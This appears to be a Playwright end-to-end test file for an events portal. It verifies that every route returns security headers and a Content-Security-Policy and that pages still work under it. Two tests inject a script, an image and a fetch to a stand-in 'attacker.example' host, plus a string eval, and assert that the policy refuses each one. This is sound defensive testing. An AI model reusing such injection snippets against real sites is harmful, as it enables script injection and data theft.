import { expect, test, type APIRequestContext } from '@playwright/test'
import { e2e } from './env'
import { expectSecurityHeaders } from './support/security-headers'
import { watchPolicyViolations } from './support/policy-violations'

/**
 * Every response of the production server carries the security headers and a
 * Content-Security-Policy (lib/security-headers.ts), whatever answers it: a prerendered page,
 * the proxy, a route handler, a 404 or a static file. In the browser the pages work under
 * that policy without a single refusal, and what the policy is there for is refused.
 */
const eventPath = '/en/events/from-open-software-to-open-culture'

type Case = {
  kind: string
  path: string | ((request: APIRequestContext) => Promise<string>)
  status: number
  method?: 'GET' | 'POST'
  headers?: Record<string, string>
}

/** A file the event page links to, found in its HTML (the names carry build hashes). */
const linkedFrom = (pattern: RegExp) => async (request: APIRequestContext) => {
  const html = await (await request.get(eventPath)).text()
  const found = pattern.exec(html)?.[1]
  if (!found) throw new Error(`${eventPath} links to nothing like ${pattern}`)
  return found.replace(e2e.baseURL, '').replaceAll('&amp;', '&')
}

const cases: Case[] = [
  { kind: 'the home page', path: '/en', status: 200 },
  { kind: 'an event page', path: eventPath, status: 200 },
  { kind: 'a list page the proxy serves', path: '/en/events?topic=covid-19', status: 200 },
  { kind: 'the RSS feed', path: '/en/feeds/rss.xml', status: 200 },
  { kind: 'the Atom feed', path: '/en/feeds/atom.xml', status: 200 },
  { kind: 'the calendar feed', path: '/en/feeds/events.ics', status: 200 },
  { kind: "an event's calendar file", path: `${eventPath}/event.ics`, status: 200 },
  { kind: 'the sitemap', path: '/sitemap.xml', status: 200 },
  { kind: 'robots.txt', path: '/robots.txt', status: 200 },
  {
    kind: 'a social image',
    path: linkedFrom(/property="og:image" content="([^"]+)"/),
    status: 200,
  },
  { kind: 'an API route refusing a webhook', path: '/api/revalidate', method: 'POST', status: 401 },
  { kind: 'an API route redirecting', path: '/api/draft-mode/disable', status: 307 },
  { kind: 'an unknown API route', path: '/api/no-such-route', status: 404 },
  { kind: 'a 404 inside a locale', path: '/en/no-such-page', status: 404 },
  { kind: 'the 404 of a missing event', path: '/en/events/no-such-event', status: 404 },
  { kind: 'a 404 outside the locales', path: '/no-such-file.txt', status: 404 },
  { kind: "the proxy's locale redirect", path: '/', status: 307 },
  {
    kind: "the proxy's canonical list redirect",
    path: '/en/events?page=1&topic=covid-19',
    status: 307,
  },
  {
    kind: "the proxy's answer to a stale preview cookie",
    path: '/en/events',
    status: 204,
    headers: { cookie: '__prerender_bypass=stale', 'sec-fetch-mode': 'cors' },
  },
  { kind: 'a script', path: linkedFrom(/src="(\/_next\/static\/[^"]+\.js)"/), status: 200 },
  { kind: 'a style sheet', path: linkedFrom(/href="(\/_next\/static\/[^"]+\.css)"/), status: 200 },
]

test.describe('security headers', () => {
  for (const { kind, path, status, method = 'GET', headers } of cases) {
    test(`on ${kind}`, async ({ request }) => {
      const url = typeof path === 'string' ? path : await path(request)
      const response = await request.fetch(url, { method, headers, maxRedirects: 0 })
      expect(response.status(), url).toBe(status)
      expectSecurityHeaders(response.headers(), { studio: false, https: false })
    })
  }

  test('on the Studio, with its own policy at every Studio address', async ({ request }) => {
    for (const url of ['/studio', '/studio/structure/event', '/studio/presentation']) {
      const response = await request.get(url)
      expect(response.status(), url).toBe(200)
      expectSecurityHeaders(response.headers(), { studio: true, https: false })
    }
  })

  test('the site refuses scripts, images and connections to other origins, and eval', async ({
    page,
  }) => {
    const refused = await watchPolicyViolations(page.context())
    await page.goto('/en')
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.src = 'https://attacker.example/steal.js'
      document.head.append(script)
      const image = new Image()
      image.src = 'https://attacker.example/pixel.png'
      void fetch('https://attacker.example/collect').catch(() => undefined)
      setTimeout('document.title = "evaluated"', 0)
    })
    await expect
      .poll(() => refused)
      .toEqual(
        expect.arrayContaining([
          expect.stringMatching(/^script-src-elem refused https:\/\/attacker.example\/steal.js/),
          expect.stringMatching(/^img-src refused https:\/\/attacker.example\/pixel.png/),
          expect.stringMatching(/^connect-src refused https:\/\/attacker.example\/collect/),
          expect.stringMatching(/^script-src refused eval/),
        ]),
      )
    expect(await page.title()).not.toBe('evaluated')
  })
})

test.describe('pages under the policy', () => {
  test.use({ timezoneId: 'UTC' })

  test('home, event page, lists, search and a 404 load without a refusal and still work', async ({
    page,
  }) => {
    const refused = await watchPolicyViolations(page.context())

    await page.goto('/en')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()

    await page.goto(eventPath)
    const toggle = page.getByRole('button', { name: 'Show in my time zone' })
    const when = page.locator('.facts [aria-live="polite"]')
    await expect(when).toContainText('09:00–10:30 Eastern Time (UTC−4)')
    await toggle.click()
    await expect(toggle).toHaveAttribute('aria-pressed', 'true')
    await expect(when).toContainText('13:00–14:30 your time zone')

    await page.goto('/en/events?when=past')
    await page.getByLabel('Format').selectOption('online')
    await page.getByLabel('Topic').selectOption({ label: 'COVID-19 response' })
    await page.getByRole('button', { name: 'Show events' }).click()
    await expect(page).toHaveURL(/\/en\/events\?attendance=online&topic=covid-19&when=past$/)
    await expect(page.getByRole('heading', { name: /\d+ events?$/ })).toBeVisible()

    await page.goto('/en/search')
    await page.getByLabel('Search the portal').fill('digital public goods')
    await page.getByRole('button', { name: 'Search' }).click()
    await expect(page).toHaveURL(/\/en\/search\?q=digital\+public\+goods$/)
    // A client-side navigation from the results, through the router's own requests.
    await page.locator('a[href="/en/organisations/digital-public-goods-alliance"]').click()
    await expect(page).toHaveURL(/\/en\/organisations\/digital-public-goods-alliance$/)

    await page.goto('/en/no-such-page')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()

    await page.waitForLoadState('networkidle')
    expect(refused).toEqual([])
  })

  test('the site allows itself in a frame, as Presentation shows it', async ({ page }) => {
    const refused = await watchPolicyViolations(page.context())
    await page.goto('/en')
    await page.evaluate((path) => {
      const frame = document.createElement('iframe')
      frame.src = path
      frame.title = 'framed'
      document.body.append(frame)
    }, eventPath)
    const framed = page.frameLocator('iframe[title="framed"]')
    await expect(framed.getByRole('heading', { level: 1 })).toBeVisible()
    expect(refused).toEqual([])

    // Refusals inside the frame are seen too, as the Studio's Presentation test relies on.
    await framed.locator('body').evaluate((body) => {
      const script = document.createElement('script')
      script.src = 'https://attacker.example/framed.js'
      body.append(script)
    })
    await expect
      .poll(() => refused)
      .toContainEqual(
        expect.stringMatching(
          new RegExp(
            `^script-src-elem refused https://attacker.example/framed.js on .*${eventPath}`,
          ),
        ),
      )
  })
})
